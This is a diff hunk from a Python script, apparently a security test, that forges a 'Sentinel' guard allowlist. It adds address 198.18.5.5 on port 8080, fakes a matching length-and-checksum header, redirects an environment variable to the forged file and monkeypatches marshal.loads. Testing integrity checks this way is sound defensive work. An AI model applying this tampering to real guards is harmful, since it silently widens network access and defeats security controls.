@@ -214,10 +214,12 @@ import os, marshal, builtins, time
 real = os.environ["SENTINEL_STATE_DIR"] + "/guard/allowlist.marshal"
 data = open(real, "rb").read()
 magic, _, rest = data.partition(b"\\n")
-doc = marshal.loads(rest)
+doc = marshal.loads(rest.partition(b"\\n")[2])
 doc["addrs"][bytes([198, 18, 5, 5])] = (("tcp", frozenset([8080])),)
 evil = os.environ["SENTINEL_STATE_DIR"] + "/evil.marshal"
-open(evil, "wb").write(magic + b"\\n" + marshal.dumps(doc))
+payload = marshal.dumps(doc)  # a well-formed file: its header's length and check match
+header = b"%08x %08x\\n" % (len(payload), int.from_bytes(payload, "little") % (2**30 - 35))
+open(evil, "wb").write(magic + b"\\n" + header + payload)
 os.environ["SENTINEL_GUARD_ALLOWLIST"] = evil
 real_loads, real_open = marshal.loads, builtins.open
 marshal.loads = lambda raw: doc
